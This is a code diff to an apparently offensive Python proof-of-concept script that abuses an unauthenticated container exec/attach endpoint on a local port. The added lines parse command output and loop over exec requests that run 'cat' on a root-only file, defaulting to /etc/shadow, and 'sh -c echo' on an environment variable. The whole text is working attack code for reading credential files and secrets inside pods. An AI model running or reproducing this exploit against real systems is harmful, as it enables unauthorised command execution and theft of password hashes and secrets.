@@ -33,6 +33,22 @@ def request(addr, head, read_for=3.0):
     return status, data
 
 
+def printable(data):
+    """The readable runs (4+ characters) after the response head: what the command wrote."""
+    body = data.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in data else b""
+    runs, run = [], b""
+    for byte in body:
+        if 32 <= byte < 127:
+            run += bytes([byte])
+        else:
+            if len(run) >= 4:
+                runs.append(run.decode())
+            run = b""
+    if len(run) >= 4:
+        runs.append(run.decode())
+    return " ".join(runs)[:120] or "-"
+
+
 def upgrade_head(path):
     key = base64.b64encode(os.urandom(16)).decode()
     return (
@@ -47,20 +63,20 @@ def main():
     parser.add_argument("--port", type=int, default=10350)
     parser.add_argument("--pod", required=True, help="namespace/pod/container")
     parser.add_argument("--file", default="/etc/shadow", help="a root-only file to read by exec")
+    parser.add_argument("--env", default="HOSTNAME", help="an environment variable to read by exec")
     args = parser.parse_args()
     addr = ("127.0.0.1", args.port)
     ns, pod, container = args.pod.split("/")
     print(f"uid {os.getuid()} against 127.0.0.1:{args.port}, pod {args.pod}")
 
-    status, data = request(
-        addr, upgrade_head(f"/exec/{ns}/{pod}/{container}?command=id&output=1&error=1")
-    )
-    found = data.find(b"uid=")
-    print(f"exec id: {status!r}; output: {data[found:found + 40] if found >= 0 else b'-'!r}")
-    status, data = request(
-        addr, upgrade_head(f"/exec/{ns}/{pod}/{container}?command=cat&command={args.file}&output=1&error=1")
-    )
-    print(f"exec cat {args.file}: {status!r}; {len(data)} bytes back")
+    for what, command in [
+        (f"cat {args.file}", f"command=cat&command={args.file}"),
+        (f"echo ${args.env}", f"command=sh&command=-c&command=echo%20%24{args.env}"),
+    ]:
+        status, data = request(
+            addr, upgrade_head(f"/exec/{ns}/{pod}/{container}?{command}&output=1&error=1")
+        )
+        print(f"exec {what}: {status!r}; output: {printable(data)!r}")
     status, _ = request(addr, upgrade_head(f"/attach/{ns}/{pod}/{container}?output=1&error=1"))
     print(f"attach: {status!r}")
     status, data = request(
